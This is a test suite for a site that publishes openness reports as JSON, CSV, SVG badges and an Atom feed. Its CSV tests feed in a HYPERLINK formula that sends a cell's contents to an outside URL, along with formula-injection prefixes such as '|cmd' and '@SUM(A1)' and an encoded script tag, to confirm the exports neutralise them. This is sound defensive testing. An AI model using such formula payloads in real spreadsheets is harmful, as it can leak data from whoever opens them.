// The openness report for programs: JSON, CSV, badges, feed, API.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OpennessReport } from '../../src/report/openness-report.ts';
import { LANGUAGES } from '../../src/server/text/languages.ts';
import { OPENNESS } from '../../src/server/text/openness/words.ts';
import { makeReport } from '../support/make-report.ts';
import { runSite, type Running } from './site.ts';

const FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")';

let site: Running;
/** with white space that no program would write, so that bytes can be told from meaning */
const DOCUMENT = JSON.stringify(
  makeReport({ subject: 'dc-example', name: 'Examples, "open"\nand more', grade: 'open' }),
  null,
  3,
);
beforeAll(async () => {
  site = await runSite();
  const { writer } = site.site;
  for (const [day, grade] of [
    ['2024-02-01', 'not_open'],
    ['2024-03-01', 'not_open'],
    ['2024-04-01', 'partly_open'],
  ] as const)
    await writer.putReport('dc-example', JSON.stringify(makeReport({ subject: 'dc-example', day, grade })));
  await writer.putReport('dc-example', DOCUMENT);
  await writer.putReport(
    'dc-formula',
    JSON.stringify(makeReport({ subject: 'dc-formula', name: FORMULA, grade: 'not_open' })),
  );
});
afterAll(() => site[Symbol.asyncDispose]());
const get = (url: string) => site.app.inject({ url });

describe('JSON', () => {
  it('has the newest report of each coalition and all lists, the same in the API', async () => {
    const answer = await get('/openness.json');
    const data = answer.json<{ reports: OpennessReport[]; lists: unknown[] }>();
    expect(data.reports.map((report) => OpennessReport.parse(report).subject).toSorted()).toEqual([
      'dc-example',
      'dc-formula',
    ]);
    expect(data.lists).toContainEqual({
      id: 'dc-example',
      name: 'Dynamic Coalition on Examples',
      counts: { published: 5, withheld: 2, erased: 0, pending: 1 },
      url: 'https://archive.example.org/lists/dc-example',
    });
    expect(data.lists).toHaveLength(2);
    expect((await get('/api/v1/openness')).json()).toEqual(data);
  });

  it('gives one report byte for byte as it was issued', async () => {
    const answer = await get('/openness/dc-example.json');
    expect(answer.headers['content-type']).toContain('application/json');
    expect(answer.body).toBe(DOCUMENT);
    const again = await site.app.inject({
      url: '/openness/dc-example.json',
      headers: { 'if-none-match': String(answer.headers.etag) },
    });
    expect(again.statusCode).toBe(304);
  });
});

describe('CSV', () => {
  /** RFC 4180 section 2, read strictly */
  const parse = (text: string): string[][] => {
    const lines: string[][] = [];
    for (let at = 0; at < text.length;) {
      const line: string[] = [];
      for (;;) {
        const cell = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/u.exec(text.slice(at));
        expect(cell).not.toBeNull();
        line.push(cell![1]?.replaceAll('""', '"') ?? cell![2]!);
        at += cell![0].length;
        if (cell![3] !== ',') break;
      }
      lines.push(line);
    }
    return lines;
  };

  it('has one line a coalition, of equal length', async () => {
    const answer = await get('/openness.csv');
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(answer.headers['content-disposition']).toBe('attachment; filename="openness.csv"');
    const [head, ...lines] = parse(answer.body);
    expect(head!.slice(0, 7)).toEqual([
      'coalition',
      'name',
      'connected',
      'grade',
      'gate',
      'score',
      'coverage',
    ]);
    expect(lines.map((line) => line.length)).toEqual(lines.map(() => head!.length));
    const example = Object.fromEntries(
      lines.find(([id]) => id === 'dc-example')!.map((cell, i) => [head![i], cell]),
    );
    expect(example).toMatchObject({
      name: 'Examples, "open"\nand more',
      connected: 'yes',
      grade: 'open',
      score: '86',
      published: '5',
      withheld: '2',
      valid_until: '2024-06-19T06:00:00.000Z',
    });
    expect(lines.find(([id]) => id === 'dc-empty')!.slice(2, 7)).toEqual(['yes', '', '', '', '']);
  });

  it('has nothing that a spreadsheet takes for a formula', async () => {
    const signs = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '"=1"', '＝1', '|cmd', '%0A=1'];
    for (const [index, sign] of signs.entries())
      await site.site.writer.putReport(
        `dc-sign-${index}`,
        JSON.stringify(makeReport({ subject: `dc-sign-${index}`, name: sign })),
      );
    const [, ...lines] = parse((await get('/openness.csv')).body);
    const names = new Map(lines.map(([id, name]) => [id!, name!]));
    expect(names.get('dc-formula')).toBe(`'${FORMULA}`);
    for (const [index, sign] of signs.entries()) expect(names.get(`dc-sign-${index}`)).toBe(`'${sign}`);
    for (const cell of lines.flat()) expect(cell).not.toMatch(/^[\s"]*[=+\-@\t\r]/u);
  });
});

describe('a badge', () => {
  it.each(LANGUAGES)('says the grade in words in %s, with a title and a description', async (language) => {
    const answer = await get(`/openness/dc-example/badge.svg?lang=${language}`);
    const words = OPENNESS[language];
    expect(answer.headers['content-type']).toBe('image/svg+xml; charset=utf-8');
    expect(answer.body).toContain(`>${words.title}</text>`);
    expect(answer.body).toContain(`>${words.grades.open[0]}</text>`);
    expect(answer.body).toMatch(/<title id="t">[^<]+<\/title>\s*<desc id="d">[^<]+<\/desc>/u);
    expect(answer.body).not.toMatch(/<script|<style|style=|href=/u);
  });

  it('says that a report is old, and that there is none', async () => {
    await using late = await runSite(() => ({ clock: { now: () => Date.parse('2025-01-01') } }));
    await late.site.writer.putReport('dc-example', DOCUMENT);
    expect((await late.app.inject('/openness/dc-example/badge.svg')).body).toContain('>Open (old)</text>');
    expect((await get('/openness/dc-empty/badge.svg')).body).toContain('>Not assessed yet</text>');
  });

  it('answers a language that there is not with 400', async () => {
    for (const lang of ['de', 'en&lang=fr', '%3Cscript%3E'])
      expect((await get(`/openness/dc-example/badge.svg?lang=${lang}`)).statusCode).toBe(400);
  });
});

it('the feed has an entry for each change of a grade, the newest first, and none for a report that changes nothing', async () => {
  await using own = await runSite();
  for (const [day, grade] of [
    ['2024-02-01', 'not_open'],
    ['2024-03-01', 'not_open'],
    ['2024-04-01', 'partly_open'],
    ['2024-05-01', 'open'],
  ] as const)
    await own.site.writer.putReport(
      'dc-example',
      JSON.stringify(makeReport({ subject: 'dc-example', name: 'A & B', day, grade })),
    );
  const answer = await own.app.inject('/openness/feed.atom');
  expect(answer.headers['content-type']).toContain('application/atom+xml');
  expect([...answer.body.matchAll(/<title type="text"[^>]*>([^<]*)</gu)].map((match) => match[1])).toEqual([
    'A &amp; B: Open (before: Partly open)',
    'A &amp; B: Partly open (before: Not open)',
    'A &amp; B: Not open',
  ]);
  const ids = [...answer.body.matchAll(/<id>([^<]*)<\/id>/gu)].map((match) => match[1]!);
  expect(new Set(ids).size).toBe(4);
  const [, anchor] = /#(at-\d+)$/u.exec(ids[1]!)!;
  expect((await own.app.inject('/openness/dc-example')).body).toContain(`id="${anchor}"`);
});
